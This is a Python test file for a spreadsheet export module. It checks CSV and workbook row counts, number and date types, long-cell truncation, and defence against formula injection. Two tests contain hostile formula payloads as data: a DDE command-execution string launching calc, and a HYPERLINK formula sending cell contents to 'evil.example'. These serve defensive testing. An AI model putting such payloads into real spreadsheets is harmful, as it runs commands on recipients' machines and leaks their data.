"""CSV files and the workbook: read back by the libraries of spreadsheets, with nothing that runs and nothing lost."""

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from onrecord.export import csv_files, jsonl, workbook
from onrecord.export.csv_files import FORMULA, as_text
from onrecord.export.sheets import TABLES, as_day, cells
from onrecord.store import Record, View

NAMES = [table.name for table in TABLES]


@pytest.fixture(scope="module")
def folder(example_record: Record, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Write the example both ways."""
    folder = tmp_path_factory.mktemp("sheets")
    with View.open(example_record) as view:
        csv_files.export(view, folder)
        workbook.export(view, folder)
    return folder


def test_every_table_has_as_many_rows_as_the_contract_and_the_workbook_as_many_as_the_csv(
    example_record: Record, folder: Path
) -> None:
    with View.open(example_record) as view:
        whole = {name: sum(1 for _ in rows(view)) for name, rows in jsonl.FILES}
    book = openpyxl.load_workbook(folder / workbook.FILE, read_only=True)
    assert book.sheetnames == ["about", *NAMES]
    for name in NAMES:
        with (folder / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        assert len(rows) - 1 == sum(1 for _ in book[name].iter_rows()) - 1
        if name != "threads":  # there a row is a statement of a thread
            assert len(rows) - 1 == whole[name]
        assert {len(row) for row in rows} == {len(rows[0])}


def test_sums_are_numbers_and_days_are_days_in_the_workbook(example_record: Record, folder: Path) -> None:
    sheet = openpyxl.load_workbook(folder / workbook.FILE)["awards"]
    heading = [cell.value for cell in sheet[1]]
    with View.open(example_record) as view:
        held = {row["id"]: row for row in jsonl.spent.awards(view)}
    assert held
    for row in sheet.iter_rows(min_row=2):
        found = dict(zip(heading, row, strict=True))
        award = held[found["id"].value]
        assert found["latest action"].value.date() == date.fromisoformat(award["as_of"][:10])
        for notion, column in (("obligated", "obligated"), ("potential", "potential value")):
            stated = award["money"][notion]
            assert (found[column].value is None) == (stated is None)
            if stated is not None:
                assert found[column].data_type == "n"
                assert Decimal(str(found[column].value)) == Decimal(stated)


@given(st.text(max_size=40))
def test_no_text_of_a_csv_begins_as_a_formula(text: str) -> None:
    """An apostrophe before it keeps it text; without one, the text is as it was."""
    written = as_text(text)
    assert not written.startswith(tuple(set(FORMULA) - {"'"}))
    assert written.removeprefix("'") == text.replace("\0", "\N{REPLACEMENT CHARACTER}") or written == text


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_a_formula_is_a_text(sign: str) -> None:
    assert as_text(f"{sign}cmd|' /C calc'!A0") == f"'{sign}cmd|' /C calc'!A0"


def test_a_negative_sum_stays_a_number() -> None:
    assert as_text(Decimal("-1200.50")) == "-1200.50"


def test_formulas_of_hostile_words_do_not_run_in_the_workbook(
    example_record: Record, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every cell is a text, a number or a day; none is a formula or a link."""
    hostile = '=HYPERLINK("http://evil.example/"&A1)'
    with View.open(example_record) as view:
        monkeypatch.setattr(workbook, "cells", lambda table, _view: [(hostile,) * len(table.columns)])
        workbook.export(view, tmp_path)
    for sheet in openpyxl.load_workbook(tmp_path / workbook.FILE).worksheets[1:]:
        assert {(cell.data_type, cell.value, cell.hyperlink) for cell in sheet[2]} == {("s", hostile, None)}


def test_a_text_too_long_for_a_cell_is_cut_and_says_so_and_a_long_sheet_goes_on(
    example_record: Record, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "ROWS_MOST", 2)
    monkeypatch.setattr(workbook, "cells", lambda table, _view: [("x" * 40_000,) * len(table.columns)] * 5)
    with View.open(example_record) as view:
        ((_, count),) = workbook.export(view, tmp_path)
    assert count == 5 * len(TABLES)
    book = openpyxl.load_workbook(tmp_path / workbook.FILE)
    assert [book[name].max_row for name in ("awards", "awards 2", "awards 3")] == [3, 3, 2]
    text = book["awards"]["A2"].value
    assert (len(text), text[-3:]) == (32_767, "[…]")


def test_a_sum_with_more_digits_than_a_number_keeps_is_written_as_text(
    example_record: Record, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    exact = Decimal("2800000000000000.01")
    monkeypatch.setattr(workbook, "cells", lambda table, _view: [(exact,) * len(table.columns)])
    with View.open(example_record) as view:
        workbook.export(view, tmp_path)
    assert openpyxl.load_workbook(tmp_path / workbook.FILE)["awards"]["A2"].value == str(exact)


def test_what_is_no_day_stays_as_it_is_written() -> None:
    assert [as_day(one) for one in ("2018-06-28", "2018-06-28T09:00:00Z", "2018-06", None)] == [
        date(2018, 6, 28),
        date(2018, 6, 28),
        "2018-06",
        None,
    ]


def test_the_columns_are_told_apart_and_every_row_fills_them(example_record: Record) -> None:
    with View.open(example_record) as view:
        for table in TABLES:
            headings = [heading for heading, _, _ in table.columns]
            assert len(set(headings)) == len(headings)
            assert all(len(row) == len(headings) for row in cells(table, view))
